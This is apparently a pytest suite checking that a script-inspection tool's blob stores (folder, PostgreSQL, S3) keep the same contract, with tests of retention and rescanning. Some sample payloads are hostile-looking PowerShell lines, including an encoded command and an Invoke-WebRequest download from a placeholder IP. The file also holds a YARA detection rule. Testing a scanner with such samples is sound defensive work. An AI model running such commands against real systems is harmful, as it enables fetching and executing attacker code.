"""Every blob backend keeps the same contract: the folder (default), the PostgreSQL `blobs`
table and an S3-compatible bucket.

The suite runs once per backend; the database backend needs the PostgreSQL server (skipped
with the reason when it does not answer; SQLite is not a database-backend target), the s3
backend talks to a local S3-compatible server (moto) on 127.0.0.1.
"""

from __future__ import annotations

import hashlib
import secrets
import socket
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from inspector.config import Settings
from inspector.store import BlobError, Store
from inspector.store.blob_backends import (
    BlobBackendError,
    DatabaseBlobBackend,
    FolderBlobBackend,
    S3BlobBackend,
    blobs_table,
)
from inspector.store.schema import payloads
from inspector.store.testing import blobs_of, make_verdict, postgres_unreachable_reason, temporary_store


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(scope="module")
def s3_endpoint() -> Iterator[str]:
    """A local S3-compatible server (moto) on 127.0.0.1, for this module's s3 runs."""
    from moto.server import ThreadedMotoServer

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    yield f"http://127.0.0.1:{port}"
    server.stop()


def _s3_settings(endpoint: str) -> dict[str, Any]:
    """A fresh bucket per test; explicit test credentials (no credential-chain lookups)."""
    import boto3

    bucket = f"inspector-{secrets.token_hex(6)}"
    boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id="test",
                 aws_secret_access_key="test").create_bucket(Bucket=bucket)
    return dict(blob_s3_bucket=bucket, blob_s3_endpoint_url=endpoint, blob_s3_region="us-east-1",
                blob_s3_access_key_id="test", blob_s3_secret_access_key="test", blob_s3_prefix="payloads/")


@pytest.fixture(params=["folder", pytest.param("database", marks=pytest.mark.postgres), "s3"])
def blob_backend(request: pytest.FixtureRequest) -> str:
    if request.param == "database" and (reason := postgres_unreachable_reason()):
        pytest.skip(reason)
    return request.param  # type: ignore[no-any-return]


@pytest.fixture
def backend_settings(blob_backend: str, request: pytest.FixtureRequest) -> dict[str, Any]:
    if blob_backend == "s3":
        return _s3_settings(request.getfixturevalue("s3_endpoint"))
    return {}


@asynccontextmanager
async def _store(blob_backend: str, tmp_path: Path, backend_settings: dict[str, Any],
                 **overrides: Any) -> AsyncIterator[Store]:
    """Folder and s3 beside SQLite; the database backend in a private PostgreSQL schema."""
    database = "postgres" if blob_backend == "database" else "sqlite"
    async with temporary_store(database, tmp_path, blob_backend=blob_backend, **backend_settings,
                               **overrides) as store:
        yield store


@pytest.fixture
async def store(blob_backend: str, tmp_path: Path, backend_settings: dict[str, Any]) -> AsyncIterator[Store]:
    async with _store(blob_backend, tmp_path, backend_settings) as opened:
        yield opened


async def _save(store: Store, inspection_id: str, data: bytes, days_ago: float = 0) -> None:
    await store.inspections.create(inspection_id, "script", {}, None, None)
    await store.inspections.save_verdict(inspection_id, make_verdict(inspection_id, [data]), blobs_of([data]))
    async with store.database.engine.begin() as conn:
        await conn.execute(payloads.update().where(payloads.c.sha256 == _sha(data))
                           .values(last_seen=datetime.now(UTC) - timedelta(days=days_ago)))


def test_the_setting_picks_the_backend(blob_backend: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("INSPECTOR_BLOB_BACKEND", blob_backend)
    assert Settings(data_dir=tmp_path).blob_backend == blob_backend


async def test_the_store_opens_the_configured_backend(store: Store, blob_backend: str) -> None:
    expected = {"folder": FolderBlobBackend, "database": DatabaseBlobBackend, "s3": S3BlobBackend}[blob_backend]
    assert isinstance(store.blobs, expected) and store.blobs.name == blob_backend


async def test_bytes_round_trip_once_per_content(store: Store) -> None:
    data = b"powershell -enc SQBFAFgA"
    assert await store.blobs.exists(_sha(data)) is False
    assert await store.blobs.put(_sha(data), data) is True
    assert await store.blobs.put(_sha(data), data) is False  # already stored: nothing rewritten
    assert await store.blobs.get(_sha(data)) == data and await store.blobs.exists(_sha(data))
    assert await store.blobs.delete(_sha(data)) == len(data)
    assert await store.blobs.get(_sha(data)) is None
    assert await store.blobs.delete(_sha(data)) == 0


async def test_the_synchronous_core_sees_the_same_blobs(store: Store) -> None:
    """Rescan worker processes read with the sync calls what the service wrote with the async ones."""
    written_async, written_sync = b"from the service", b"from a worker"
    await store.blobs.put(_sha(written_async), written_async)
    assert store.blobs.get_sync(_sha(written_async)) == written_async
    assert store.blobs.put_sync(_sha(written_sync), written_sync) is True
    assert store.blobs.put_sync(_sha(written_sync), written_sync) is False
    assert store.blobs.exists_sync(_sha(written_sync))
    assert await store.blobs.get(_sha(written_sync)) == written_sync
    store.blobs.close()  # a closed sync side reopens on its next call
    assert store.blobs.delete_sync(_sha(written_sync)) == len(written_sync)
    assert store.blobs.get_sync(_sha(written_sync)) is None and not store.blobs.exists_sync(_sha(written_sync))


async def test_empty_and_binary_content_survive_intact(store: Store) -> None:
    binary = bytes(range(256)) * 64 + b"\x00"
    for data in (b"", binary):
        await store.blobs.put(_sha(data), data)
        assert await store.blobs.get(_sha(data)) == data
        assert store.blobs.get_sync(_sha(data)) == data


async def test_a_key_that_does_not_match_the_content_is_refused(store: Store) -> None:
    with pytest.raises(BlobError, match="does not match"):
        await store.blobs.put(_sha(b"claimed"), b"actual")
    with pytest.raises(BlobError, match="does not match"):
        store.blobs.put_sync(_sha(b"claimed"), b"actual")
    assert await store.blobs.get(_sha(b"claimed")) is None and await store.blobs.get(_sha(b"actual")) is None


@pytest.mark.parametrize("bad", ["", "ABC", "g" * 64, "A" * 64, "../" + "a" * 61])
async def test_malformed_keys_are_refused_everywhere(store: Store, bad: str) -> None:
    with pytest.raises(BlobError, match="sha256"):
        await store.blobs.get(bad)
    with pytest.raises(BlobError, match="sha256"):
        await store.blobs.delete(bad)
    with pytest.raises(BlobError, match="sha256"):
        store.blobs.exists_sync(bad)


async def test_inventory_lists_every_blob_with_its_size_and_age(store: Store) -> None:
    before = datetime.now(UTC) - timedelta(seconds=5)
    await store.blobs.put(_sha(b"one"), b"one")
    store.blobs.put_sync(_sha(b"three"), b"three")
    inventory = await store.blobs.inventory()
    assert {sha: entry.size for sha, entry in inventory.items()} == {_sha(b"one"): 3, _sha(b"three"): 5}
    assert all(before <= entry.stored_at <= datetime.now(UTC) + timedelta(seconds=5) for entry in inventory.values())


async def test_verdicts_store_their_bytes_in_the_backend(store: Store) -> None:
    await _save(store, "i1", b"Invoke-WebRequest http://203.0.113.7/x.ps1")
    assert await store.payloads.get_bytes(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1")) is not None
    info = await store.payloads.get(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1"))
    assert info is not None and info.blob_available


async def test_retention_by_age_and_size_frees_backend_bytes(blob_backend: str, tmp_path: Path,
                                                              backend_settings: dict[str, Any]) -> None:
    async with _store(blob_backend, tmp_path, backend_settings, retention_days=30, retention_max_bytes=150) as store:
        await _save(store, "ancient", b"A" * 100, days_ago=40)
        await _save(store, "older", b"B" * 100, days_ago=5)
        await _save(store, "newest", b"C" * 100, days_ago=1)
        report = await store.retention.apply()
        assert report.expired_payloads == 2 and report.freed_bytes == 200 and report.blob_bytes_kept == 100
        assert await store.payloads.get_bytes(_sha(b"A" * 100)) is None and await store.payloads.get_bytes(_sha(b"B" * 100)) is None
        assert await store.payloads.get_bytes(_sha(b"C" * 100)) == b"C" * 100
        stored = await store.inspections.get("ancient")
        assert stored is not None and stored.verdict is not None  # verdict history stays


async def test_unreferenced_blobs_are_swept_only_after_the_grace_period(store: Store) -> None:
    stray, kept = b"written, then its transaction failed", b"referenced by a verdict"
    store.blobs.put_sync(_sha(stray), stray)
    await _save(store, "kept", kept)
    assert (await store.retention.apply()).orphan_blobs_removed == 0  # too young: maybe being saved now
    report = await store.retention.apply(now=datetime.now(UTC) + timedelta(hours=2))
    assert report.orphan_blobs_removed == 1 and report.blob_bytes_kept == len(kept)
    assert await store.blobs.get(_sha(stray)) is None and await store.blobs.get(_sha(kept)) == kept


MARKER_RULE = """
rule acme_backdoor_marker
{
    meta:
        id = "yara.acme.backdoor_marker"
        score = 1500
    strings:
        $m = "acme-backdoor-7f3a" ascii
    condition:
        $m
}
"""


async def test_rescan_worker_processes_read_the_bytes_from_the_backend(
        blob_backend: str, tmp_path: Path, backend_settings: dict[str, Any]) -> None:
    """The batch scan runs in a spawned worker process, which reads blobs through the sync core."""
    from inspector.rescan.scanner import ArtifactScanner
    from inspector.service.rescan_service import run_rescan, start_rescan
    from inspector.tasks.batch_runner import LocalBatchRunner

    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "acme.yar").write_text(MARKER_RULE)
    async with _store(blob_backend, tmp_path / "data", backend_settings, signature_dirs=[rules],
                      rescan_batch_size=2) as store:
        await _save(store, "clean-1", b"Get-Service W3SVC | Restart-Service")
        await _save(store, "clean-2", b"Install-WindowsFeature Web-Server")
        await _save(store, "marked", b"Set-Content C:\\ProgramData\\x.txt 'acme-backdoor-7f3a'")
        scanner = ArtifactScanner.from_settings(store.settings)
        info, _ = await start_rescan(store, ruleset_version=scanner.ruleset_version, rule_count=scanner.rule_count,
                                     analyzer_version=scanner.analyzer_version)
        runner = LocalBatchRunner(store.settings, processes=1)
        try:
            final = await run_rescan(store, info.id, runner, settings=store.settings)
        finally:
            runner.close()
    assert final.status == "done"
    assert (final.progress.artifacts_scanned, final.progress.artifacts_missing) == (3, 0)
    assert [(c.inspection_id, c.new_verdict) for c in final.changes] == [("marked", "malicious")]


async def test_the_blobs_table_exists_on_every_database(store: Store) -> None:
    async with store.database.engine.connect() as conn:
        assert await conn.scalar(sa.select(sa.func.count()).select_from(blobs_table)) == 0


async def test_the_database_backend_refuses_sqlite_clearly(tmp_path: Path) -> None:
    with pytest.raises(BlobBackendError, match="needs a PostgreSQL database_url"):
        await Store.open(Settings(data_dir=tmp_path, blob_backend="database"))


async def test_s3_objects_are_sharded_under_the_prefix(s3_endpoint: str, tmp_path: Path) -> None:
    settings = _s3_settings(s3_endpoint)
    async with temporary_store("sqlite", tmp_path, blob_backend="s3", **settings) as store:
        await store.blobs.put(_sha(b"sharded"), b"sharded")
        assert isinstance(store.blobs, S3BlobBackend)
        keys = [o["Key"] for o in store.blobs.client.list_objects_v2(Bucket=settings["blob_s3_bucket"])["Contents"]]
        sha = _sha(b"sharded")
        assert keys == [f"payloads/{sha[:2]}/{sha[2:4]}/{sha}"]


async def test_the_s3_backend_needs_a_bucket(tmp_path: Path) -> None:
    with pytest.raises(BlobBackendError, match="blob_s3_bucket"):
        await Store.open(Settings(data_dir=tmp_path, blob_backend="s3"))
